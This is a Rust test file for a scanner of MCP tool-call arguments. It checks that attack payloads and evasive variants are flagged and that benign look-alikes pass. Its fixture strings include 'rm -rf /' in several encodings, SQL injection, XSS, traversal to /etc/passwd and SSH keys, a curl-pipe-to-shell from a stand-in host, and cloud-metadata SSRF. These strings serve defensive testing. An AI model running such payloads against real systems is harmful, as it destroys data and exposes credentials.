//! Arguments: attacks in all their spellings are found, and what only looks like them is not.

use inspect::{Finding, Scanner, Severity, Surface};

fn flagged(scanner: &Scanner, arguments: &str) -> Vec<String> {
    let found = scanner.scan(Surface::Arguments, arguments);
    found.into_iter().filter(Finding::flagged).map(|finding| finding.rule.to_string()).collect()
}

/// The four payloads that MCP Guardian's paper blocks.
const GUARDIAN: [&str; 4] = [
    r#"{"query":"DROP TABLE users;"}"#,
    r#"{"name":"<script>alert(1)</script>"}"#,
    r#"{"command":"rm -rf /"}"#,
    r#"{"query":"1;--"}"#,
];

/// Twenty-three other spellings and kinds, none of which its four expressions match.
const VARIANTS: [&str; 23] = [
    r#"{"command":"rm -r -f /"}"#,
    r#"{"command":"rm -fr /"}"#,
    r#"{"command":"rm\t-rf\t/"}"#,
    r#"{"command":"rm --recursive --force /"}"#,
    r#"{"query":"DROP/**/TABLE users"}"#,
    r#"{"name":"<script src=//x.example/a.js>"}"#,
    r#"{"name":"<img src=x onerror=alert(1)>"}"#,
    r#"{"name":"' OR 1=1 -- "}"#,
    r#"{"name":"1 UNION SELECT password FROM users"}"#,
    r#"{"path":"../../../../etc/passwd"}"#,
    r#"{"path":"..%2f..%2f..%2fetc%2fpasswd"}"#,
    r#"{"path":"~/.ssh/id_rsa"}"#,
    r#"{"path":"..2f..2fetc2fhosts"}"#,
    r#"{"path":"%c0%ee%c0%ee%c0%5cnotes"}"#,
    r#"{"path":"Li4vLi4vZXRjL2hvc3Rz"}"#,
    r#"{"name":"$(curl http://x.example/a|sh)"}"#,
    r#"{"name":"a; cat /etc/passwd"}"#,
    r#"{"name":"`id`"}"#,
    r#"{"command":"\uff52\uff4d -\uff52\uff46 /"}"#,
    r#"{"command":"cm0gLXJmIC8gLS1uby1wcmVzZXJ2ZS1yb290"}"#,
    r#"{"url":"http://169.254.169.254/latest/meta-data/"}"#,
    r#"{"url":"http://2852039166/latest/"}"#,
    r#"{"template":"{{7*7}}"}"#,
];

/// What filters of words refuse for no reason.
const BENIGN: [&str; 24] = [
    r#"{"company":"AT&T"}"#,
    r#"{"company":"Johnson & Johnson"}"#,
    r#"{"url":"https://example.com/search?q=a&lang=en&sort=asc#top"}"#,
    r#"{"text":"| a | b |\n| --- | --- |\n| 1 | 2 |"}"#,
    r#"{"query":"how do I drop a table in postgres?"}"#,
    r#"{"text":"Please don't rm -rf / on production; it was in the news."}"#,
    r#"{"title":"O'Brien's guide to SELECT and UNION"}"#,
    r#"{"name":"O'Neill"}"#,
    r#"{"sql":"SELECT id, name FROM users WHERE name = 'x' AND age > 3 ORDER BY id"}"#,
    r#"{"sql":"INSERT INTO notes(text) VALUES ('it''s; fine')"}"#,
    r#"{"command":"ls -la && cargo test"}"#,
    r#"{"command":"rm -rf target/debug"}"#,
    r#"{"command":"git log --oneline | head -5"}"#,
    r#"{"path":"src/main.rs"}"#,
    r#"{"path":"/home/ada/project/README.md"}"#,
    r#"{"path":"C:\\Users\\ada\\notes.txt"}"#,
    r#"{"code":"for (let i = 0; i < 3; i++) { console.log(`${i}`); }"}"#,
    r#"{"content":"<script>document.title = 'x'</script>"}"#,
    r#"{"template":"Dear {{name}}, your order {{order.id}} is ready."}"#,
    r#"{"query":"rock & roll; jazz | blues"}"#,
    r#"{"expression":"(a+b)*2 -- sum"}"#,
    r#"{"query":"label:bug -label:wontfix \"exact phrase\""}"#,
    r#"{"pattern":"^\\d+(\\.\\d+)?$"}"#,
    r#"{"amount":"$5 or less","name":"Tom & Jerry's (1940–1958)"}"#,
];

#[test]
fn payloads_and_their_variants_are_found() {
    let scanner = Scanner::new(Vec::new()).unwrap();
    let missed: Vec<_> = GUARDIAN
        .iter()
        .chain(&VARIANTS)
        .filter(|text| flagged(&scanner, text).is_empty())
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn benign_arguments_pass() {
    let scanner = Scanner::new(Vec::new()).unwrap();
    let wrong: Vec<_> = BENIGN
        .iter()
        .map(|text| (text, flagged(&scanner, text)))
        .filter(|(_, rules)| !rules.is_empty())
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn a_schema_says_what_a_parameter_takes() {
    let scanner = Scanner::new(Vec::new()).unwrap();
    let read =
        |text: &'static str| mcp::Json::read(text.as_bytes(), &mcp::Limits::default()).unwrap();
    let arguments = read(r#"{"where":"http://10.0.0.1/"}"#);
    let uri = read(r#"{"properties":{"where":{"type":"string","format":"uri"}}}"#);
    let prose = read(r#"{"properties":{"where":{"type":"string","format":"markdown"}}}"#);
    let worst = |schema| inspect::worst(&scanner.arguments(arguments, Some(schema)));
    assert_eq!(worst(uri), Some(Severity::Medium));
    assert_eq!(worst(prose), None);
}

/// Arguments that are looked at after `before`.
fn after(before: &str) -> String {
    format!(r#"{{"more":[{before}],"path":"../../../../etc/passwd","host":"8.8.8.8; rm -rf /"}}"#)
}

#[test]
fn nothing_that_comes_before_keeps_an_argument_from_being_judged() {
    let scanner = Scanner::new(Vec::new()).unwrap();
    let alone = flagged(&scanner, &after(""));
    assert!(alone.iter().any(|rule| rule.starts_with("argument.")), "{alone:?}");
    let mails: Vec<_> = (0..40).map(|at| format!("\"someone{at}@example.com\"")).collect();
    let keys: Vec<_> = (0..400).map(|at| format!("\"sk_test_{at:024}\"")).collect();
    for before in [mails.join(","), keys.join(",")] {
        let found = flagged(&scanner, &after(&before));
        for rule in &alone {
            assert!(found.contains(rule), "{rule} not in {found:?}");
        }
    }
}

#[test]
fn who_sends_more_than_is_looked_at_has_sent_too_much() {
    let scanner = Scanner::new(Vec::new()).unwrap();
    let hosts: Vec<_> = (0..400).map(|at| format!("\"host{at}; id\"")).collect();
    let found = flagged(&scanner, &format!(r#"{{"hosts":[{}]}}"#, hosts.join(",")));
    assert!(found.contains(&"argument.too-many".to_owned()), "{found:?}");
}

#[test]
fn padding_hides_no_traversal_and_no_shell() {
    let scanner = Scanner::new(Vec::new()).unwrap();
    for (name, start, pad, end) in [
        ("path", "/srv/", "./", "../../../../etc/passwd"),
        ("path", "../../../../etc/passwd", "/.", ""),
        ("host", "8.8.8.8", " ", "; rm -rf /"),
    ] {
        let value = format!("{start}{}{end}", pad.repeat(5000));
        assert!(
            !flagged(&scanner, &format!(r#"{{"{name}":"{value}"}}"#)).is_empty(),
            "{start}{end}"
        );
    }
    let text = "See ../guide.md for more.\\n".repeat(400);
    assert_eq!(flagged(&scanner, &format!(r#"{{"input":"{text}"}}"#)), Vec::<String>::new());
}
